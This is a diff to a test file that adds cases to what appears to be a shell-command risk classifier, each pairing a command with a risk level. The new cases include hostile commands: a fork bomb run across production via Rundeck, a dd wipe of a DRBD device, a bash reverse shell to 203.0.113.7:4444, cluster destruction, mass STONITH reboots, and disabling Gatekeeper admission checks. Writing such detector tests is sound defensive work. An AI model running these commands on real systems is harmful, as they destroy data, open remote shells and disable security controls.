@@ -10173,6 +10173,59 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'openssl dgst -sha512 -sign ~/.nextcloud/certificates/app.key build/app.tar.gz | base64\n',
             M,
         ),
+        # Round 88: rd adhoc, awx, pcs/stonith_admin/drbdadm, /dev/drbd, Gatekeeper labels and webhooks
+        (
+            'rd adhoc -p production -F \'.*\' -- \'bash -c ":(){ :|:& };:"\'\n',
+            C,
+        ),
+        (
+            'rd projects archives export -p ops -f /srv/backup/rundeck/ops.jar\n',
+            S,
+        ),
+        (
+            'awx users modify 57 --is_superuser true\n',
+            H,
+        ),
+        (
+            'pcs cluster destroy --all\n',
+            H,
+        ),
+        (
+            'for n in $(crm_node -l | awk \'{print $2}\'); do stonith_admin --reboot "$n"; done\n',
+            H,
+        ),
+        (
+            'sudo pcs status --full && sudo corosync-quorumtool -s\n',
+            M,
+        ),
+        (
+            'sudo drbdadm dump all && sudo drbdadm adjust all\n',
+            M,
+        ),
+        (
+            'dd if=/dev/zero of=/dev/drbd0 bs=4M\n',
+            C,
+        ),
+        (
+            'pcs resource create h ocf:heartbeat:anything binfile=/bin/bash cmdline_options="-c \'bash -i >& /'
+            'dev/tcp/203.0.113.7/4444 0>&1\'"\n',
+            C,
+        ),
+        (
+            'kubectl get ns -o name | xargs -I{} kubectl label {} admission.gatekeeper.sh/ignore=true --overw'
+            'rite\n',
+            H,
+        ),
+        (
+            'kubectl label ns legacy-team admission.gatekeeper.sh/ignore-\n',
+            S,
+        ),
+        (
+            'kubectl patch validatingwebhookconfiguration gatekeeper-validating-webhook-configuration --type='
+            'json \\\n'
+            '  -p \'[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]\'\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
